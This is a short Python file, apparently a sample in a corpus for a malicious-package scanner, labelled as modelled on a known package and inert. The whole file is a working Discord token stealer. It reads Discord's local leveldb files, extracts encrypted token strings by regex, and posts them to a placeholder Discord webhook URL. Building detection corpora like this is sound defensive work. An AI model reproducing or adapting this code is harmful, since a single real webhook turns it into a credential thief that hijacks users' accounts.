# pkgguard corpus 321 (discord-token), modelled on [discordpydebug]; inert, never run.
import json
import os
import re
import urllib.request

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder"
leveldb = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
tokens = set()
for name in os.listdir(leveldb) if os.path.isdir(leveldb) else []:
    if name.endswith((".ldb", ".log")):
        with open(os.path.join(leveldb, name), errors="ignore") as f:
            tokens.update(re.findall(r"dQw4w9WgXcQ:[^\"]*", f.read()))
req = urllib.request.Request(
    HOOK, data=json.dumps({"content": "\n".join(tokens)}).encode(), headers={"Content-Type": "application/json"}
)
urllib.request.urlopen(req, timeout=5)
